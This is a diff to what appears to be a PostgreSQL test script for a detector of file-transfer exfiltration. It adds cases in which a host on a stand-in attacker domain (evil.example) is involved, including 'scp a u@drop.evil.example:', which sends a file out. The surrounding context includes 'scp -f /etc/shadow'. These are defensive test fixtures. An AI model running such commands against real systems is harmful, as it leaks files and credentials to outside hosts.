@@ -61,6 +61,9 @@ CALL pg_temp.tries('2026-11-20 06:20Z', 'web-1.corp.example', 'scp -S /tmp/ssh a
 -- what cannot be taken apart is new once, and for a role; what is only short is not
 CALL pg_temp.tries('2026-11-20 06:30Z', 'web-1.corp.example', 'scp nas-1.corp.example:a', 'scp nas-1.corp.example:a', 'rsync -a --nonsense', 'rsync -a one:a two:b', 'scp');
 CALL pg_temp.tries('2026-11-20 06:30Z', 'web-2.corp.example', 'scp nas-1.corp.example:a', 'scp web-1:b');
+-- a host that calls itself otherwise makes that domain no inside for others
+SELECT pg_temp.launch('2026-11-20 06:50Z', 'web-9.evil.example', 'rsync -a /srv/ nas-1.corp.example:/in');
+CALL pg_temp.tries('2026-11-20 06:51Z', 'web-1.corp.example', 'scp a u@drop.evil.example:');
 -- servers, both ways of sending
 CALL pg_temp.tries('2026-11-20 07:00Z', 'db06.corp.example', 'scp -f /etc/shadow', 'scp -t /srv', 'rsync --daemon', 'vsftpd /etc/vsftpd.conf', 'rsync --server --sender -logDtpr . /srv/');
 -- arguments in their order, also where the line says less: the remote host is the last
